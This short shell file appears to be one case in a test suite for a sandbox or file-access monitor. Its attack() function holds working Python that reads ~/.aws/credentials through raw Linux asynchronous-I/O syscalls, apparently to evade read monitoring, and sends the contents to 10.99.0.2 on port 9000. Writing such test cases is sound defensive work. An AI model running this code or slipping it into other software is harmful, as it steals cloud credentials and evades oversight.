# SPDX-License-Identifier: Apache-2.0
TITLE="read by Linux AIO"
ROW="R09"
attack() {
	python3 - <<-'END'
	import ctypes, os, socket
	IO_SETUP, IO_GETEVENTS, IO_SUBMIT, PREAD = 206, 208, 209, 0
	libc = ctypes.CDLL(None, use_errno=True)
	class Block(ctypes.Structure):
	    _fields_ = [('data', ctypes.c_uint64), ('key', ctypes.c_uint32), ('flags', ctypes.c_uint32),
	                ('opcode', ctypes.c_uint16), ('priority', ctypes.c_int16), ('fd', ctypes.c_uint32),
	                ('buf', ctypes.c_uint64), ('nbytes', ctypes.c_uint64), ('offset', ctypes.c_int64),
	                ('reserved', ctypes.c_uint64), ('more', ctypes.c_uint32), ('resfd', ctypes.c_uint32)]
	def call(*args):
	    result = libc.syscall(*args)
	    if result < 0:
	        raise OSError(ctypes.get_errno(), 'system call %d' % args[0])
	    return result
	context, room, events = ctypes.c_uint64(), ctypes.create_string_buffer(4096), (ctypes.c_int64 * 4)()
	fd = os.open(os.path.expanduser('~/.aws/credentials'), os.O_RDONLY)
	call(IO_SETUP, 4, ctypes.byref(context))
	block = Block(opcode=PREAD, fd=fd, buf=ctypes.addressof(room), nbytes=4096)
	blocks = (ctypes.c_void_p * 1)(ctypes.addressof(block))
	call(IO_SUBMIT, context, ctypes.c_long(1), blocks)
	call(IO_GETEVENTS, context, ctypes.c_long(1), ctypes.c_long(1), events, None)
	socket.create_connection(('10.99.0.2', 9000), 5).sendall(room.raw[:events[2]])
	END
}
